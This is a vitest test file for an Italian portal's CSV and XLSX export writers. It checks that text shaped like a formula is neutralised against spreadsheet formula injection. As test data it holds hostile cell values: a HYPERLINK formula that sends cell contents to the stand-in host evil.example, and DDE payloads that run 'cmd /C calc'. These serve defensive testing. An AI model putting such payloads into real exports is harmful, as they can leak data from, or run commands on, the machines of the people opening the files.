import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, describe, expect, it } from 'vitest';
import { scriviXlsx } from '../../server/lib/xlsx.js';
import { cellaSicura } from '../../shared/cella-sicura.js';
import { campoCsv, DecimaleCsv, fileCsv } from '../../shared/csv.js';
import { celleFormula } from '../support/csv-ingenuo.js';

// Formula injection (OWASP "CSV Injection") in every file the portal writes for spreadsheets: text
// that starts like a formula is neutralised, numbers stay numbers.
const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'portale-fogli-'));
afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));

const RISCHIOSE = [
  '=HYPERLINK("http://evil.example/?o="&B2;"Apri")', '+1+1', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1', '\r=1+1', '\n=1+1', '-', '+', '-1e5', '-A1',
];
const NUMERI = ['-3', '+3', '-1,50', '-1.50', '-1.234,50', '0', '12', '1,250'];

describe('cellaSicura (the one rule)', () => {
  it.each(RISCHIOSE)('%j gets a leading apostrophe', (s) => {
    expect(cellaSicura(s)).toBe(`'${s}`);
  });
  it.each([...NUMERI, 'Vite àèì', '000100', 'a=b', ' =1+1', '2025-01-31', ''])('%j stays as it is', (s) => {
    expect(cellaSicura(s)).toBe(s);
  });
});

describe('CSV writer', () => {
  // The probe's order name (issue 33, 6a): a reader splitting on commas saw a cell starting with '='.
  const SONDA = "x,=cmd|' /C calc'!A0,y";

  it('quotes every text and prefixes every risky first character, tab and line breaks included', () => {
    expect(campoCsv('=1+1')).toBe(`"'=1+1"`);
    expect(campoCsv('+1+1')).toBe(`"'+1+1"`);
    expect(campoCsv('-1+1')).toBe(`"'-1+1"`);
    expect(campoCsv('@SUM(A1)')).toBe(`"'@SUM(A1)"`);
    expect(campoCsv('\t=1+1')).toBe(`"'\t'=1+1"`);
    expect(campoCsv('\r=1+1')).toBe(`"'\r'=1+1"`);
    expect(campoCsv('=HYPERLINK("http://evil.example/?o="&B2;"Apri")')).toBe(`"'=HYPERLINK(""http://evil.example/?o=""&B2;""Apri"")"`);
  });

  it("neutralises a formula after any separator a spreadsheet may split on: the probe's value and variants", () => {
    expect(campoCsv(SONDA)).toBe(`"x,'=cmd|' /C calc'!A0,y"`);
    expect(campoCsv('x;=1+1')).toBe(`"x;'=1+1"`);
    expect(campoCsv('x\t+1+1')).toBe(`"x\t'+1+1"`);
    expect(campoCsv('x\n-1+1')).toBe(`"x\n'-1+1"`);
    expect(campoCsv('x\r\n@SUM(A1)')).toBe(`"x\r\n'@SUM(A1)"`);
    // Blanks a reader may trim before the cell, and separators one after another.
    expect(campoCsv('x, =1+1')).toBe(`"x, '=1+1"`);
    expect(campoCsv(' =1+1')).toBe(`" '=1+1"`);
    expect(campoCsv('x,,\t;=1')).toBe(`"x,,\t;'=1"`);
    expect(campoCsv('=a,=b;-c')).toBe(`"'=a,'=b;'-c"`);
    // A quote a reader may take as the cell's own.
    expect(campoCsv('x,"=1+1"')).toBe(`"x,""'=1+1"""`);
    expect(campoCsv('"@SUM(A1)"')).toBe(`"""'@SUM(A1)"""`);
    // Each would-be cell that is entirely a number stays a number.
    expect(campoCsv('Vite 4,-5')).toBe('"Vite 4,-5"');
    expect(campoCsv('x,-1,50;+3')).toBe('"x,-1,50;+3"');
    expect(campoCsv('x,-1+1')).toBe(`"x,'-1+1"`);
  });

  it('no part of a neutralised text, split on any separator, starts a formula', () => {
    for (const s of [SONDA, ...RISCHIOSE, 'a,=1;+2\t-x\n@y\r=z', ' \t =1,\n\n-2+x', 'Nota:\n- consegna al mattino\n- fattura', 'a,"=b",\'"-c']) {
      expect(celleFormula(campoCsv(s)), JSON.stringify(s)).toEqual([]);
      expect(celleFormula(s).length, JSON.stringify(s)).toBeGreaterThan(0);
    }
  });

  it('numbers stay bare numbers with the decimal comma; a decimal from the database keeps its decimals', () => {
    expect([-3, 2.5, -0.125, 0].map(campoCsv)).toEqual(['-3', '2,5', '-0,125', '0']);
    expect([Number.NaN, Number.POSITIVE_INFINITY].map(campoCsv)).toEqual(['', '']);
    expect(['1.250', '-0.500', '12'].map((d) => campoCsv(new DecimaleCsv(d)))).toEqual(['1,250', '-0,500', '12']);
    expect(campoCsv(new DecimaleCsv('=1+1'))).toBe(`"'=1+1"`);
  });

  it('text is text, quoted, however it looks: numeric text, codes with their zeros, quotes, separators, line breaks', () => {
    expect(NUMERI.map(campoCsv)).toEqual(NUMERI.map((n) => `"${n}"`));
    expect(campoCsv('000100')).toBe('"000100"');
    expect(campoCsv('Vite àèì')).toBe('"Vite àèì"');
    expect(campoCsv('Ferramenta "Rossi"; Snc')).toBe('"Ferramenta ""Rossi""; Snc"');
    expect(campoCsv('riga 1\r\nriga 2')).toBe('"riga 1\r\nriga 2"');
    expect(campoCsv('')).toBe('""');
    expect([null, undefined].map(campoCsv)).toEqual(['', '']);
  });

  it('a whole file: BOM, header, CRLF lines, every cell through the rule; RFC 4180 with ";" reads it back', () => {
    const file = fileCsv(['nome', 'qt'], [['=1+1', -3], ['Vite', '-1,50'], [SONDA, 2.5]]);
    expect(file).toBe(`\uFEFF"nome";"qt"\r\n"'=1+1";-3\r\n"Vite";"-1,50"\r\n"x,'=cmd|' /C calc'!A0,y";2,5\r\n`);
    expect(parse(file, { delimiter: ';', bom: true })).toEqual([['nome', 'qt'], ["'=1+1", '-3'], ['Vite', '-1,50'], ["x,'=cmd|' /C calc'!A0,y", '2,5']]);
  });
});

describe('XLSX writer', () => {
  async function scrivi(righe: (string | number | null)[][]): Promise<ExcelJS.Worksheet> {
    const file = path.join(dir, `prova-${Math.random().toString(36).slice(2)}.xlsx`);
    await scriviXlsx(fs.createWriteStream(file), 'Ordini', ['codice', 'descrizione', 'quantita', 'prezzo'], righe);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(file);
    return wb.getWorksheet('Ordini')!;
  }

  it('text that starts like a formula is text with a leading apostrophe; no cell is a formula', async () => {
    const ws = await scrivi(RISCHIOSE.map((s) => ['A1', s, 1, 1]));
    expect(ws.getRow(1).values).toEqual([undefined, 'codice', 'descrizione', 'quantita', 'prezzo']);
    RISCHIOSE.forEach((s, i) => {
      const c = ws.getRow(i + 2).getCell(2);
      // XML reads a carriage return back as a line feed.
      expect([c.type, c.value]).toEqual([ExcelJS.ValueType.String, `'${s}`.replace('\r', '\n')]);
    });
    ws.eachRow((r) => r.eachCell((c) => expect(c.type).not.toBe(ExcelJS.ValueType.Formula)));
  });

  it('numbers stay numbers (negative too); numeric text stays text as written; codes keep their zeros', async () => {
    const ws = await scrivi([['000100', 'Reso', -3, -1.5], ['A2', null, 0, 12.345], ['-1,50', '-3', 1, 2]]);
    const celle = [2, 3, 4].map((n) => [1, 2, 3, 4].map((k) => {
      const c = ws.getRow(n).getCell(k);
      return [c.type, c.value];
    }));
    const { Number: N, String: S, Null: V } = ExcelJS.ValueType;
    expect(celle).toEqual([
      [[S, '000100'], [S, 'Reso'], [N, -3], [N, -1.5]],
      [[S, 'A2'], [V, null], [N, 0], [N, 12.345]],
      [[S, '-1,50'], [S, '-3'], [N, 1], [N, 2]],
    ]);
  });

  it('streams rows from an async source; a number without a value is an empty cell', async () => {
    async function* righe() {
      for (let i = 1; i <= 3; i++) yield [`P${i}`, `=${i}`, i, Number.NaN];
    }
    const file = path.join(dir, 'async.xlsx');
    await scriviXlsx(fs.createWriteStream(file), 'Listino', ['codice', 'descrizione', 'quantita', 'prezzo'], righe());
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(file);
    const ws = wb.getWorksheet('Listino')!;
    expect(ws.rowCount).toBe(4);
    expect(ws.getRow(4).values).toEqual([undefined, 'P3', "'=3", 3]);
  });
});
